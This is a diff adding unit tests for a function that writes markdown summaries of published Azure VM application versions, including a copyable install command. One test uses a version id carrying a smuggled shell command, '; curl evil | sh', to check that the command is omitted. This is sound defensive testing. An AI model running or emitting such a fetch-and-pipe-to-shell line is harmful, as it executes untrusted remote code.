@@ -16,11 +16,58 @@ describe("summaryOf", () => {
     expect(summaryOf({ report }, undefined, run)).toMatch(/\| eastus \| ✅ Completed \| 42 s \|/);
   });
 
+  it("tells where a version is, how long it took, and the line that installs it", () => {
+    const id =
+      "/subscriptions/s-1/resourceGroups/g/providers/Microsoft.Compute/galleries/x/applications/a/versions/1.2.0";
+    const times = { startedAt: "2026-01-01T00:00:00Z", endedAt: "2026-01-01T00:04:12Z" };
+    const regions = [aRegion("eastus"), aRegion("westus")];
+    const report = aReport({ outcome: "published", versionId: id, homeRegion: "eastus", regions, ...times });
+
+    const text = summaryOf(
+      { application: "a", version: "1.2.0", report, cloud: "AzureChinaCloud" },
+      undefined,
+      run,
+    );
+
+    expect(text).toMatch(/^### ✅ a 1\.2\.0 is published\n/);
+    expect(text).toContain("**In all 2 regions after 4 min 12 s**");
+    expect(text).toContain("[run 4711, attempt 1](https://github.com/o/r/actions/runs/4711)");
+    expect(text).toContain("| eastus (home) | ✅ Completed | 42 s |");
+    expect(text).toContain(
+      `az cloud set --name AzureChinaCloud\naz vm application set --resource-group "$GROUP" --name "$VM" --app-version-ids ${id}\n`,
+    );
+  });
+
+  it("gives nobody a command to copy that a stranger's id stands in", () => {
+    const report = aReport({ outcome: "published", versionId: "/subscriptions/x; curl evil | sh" });
+
+    expect(summaryOf({ report }, undefined, run)).not.toContain("az vm application set");
+  });
+
+  it.each([
+    [
+      { outcome: "publishing" },
+      { code: "still-publishing", message: "m", nextStep: "n" },
+      "### ⏳ a: still publishing",
+    ],
+    [{ outcome: "partly-published" }, undefined, "### ⚠️ a: partly-published"],
+    [
+      { outcome: "partly-published" },
+      { code: "x", message: "m", nextStep: "n" },
+      "### ❌ a: partly-published",
+    ],
+    [{ outcome: "published" }, undefined, "### ✅ a is published"],
+  ] as const)("begins the summary of %j with %s", (change, reason, title) => {
+    const text = summaryOf({ application: "a", report: aReport(change) }, reason, run);
+
+    expect(text.split("\n")[0]).toBe(title);
+  });
+
   it("tells a problem that came before any report, harmlessly", () => {
     const text = summaryOf({ application: "flooperapp", version: "1.2.0" }, problem, run);
 
     expect(text).toMatch(/^### ❌ flooperapp 1\.2\.0: not published\n/);
-    expect(text).toContain("may not &lt;b&gt;write&lt;/b&gt; here");
+    expect(text).toContain("> may not &lt;b&gt;write&lt;/b&gt;  \n> here\n");
     expect(text).toContain("**Next step:** Ask \\*them\\*.");
   });
 
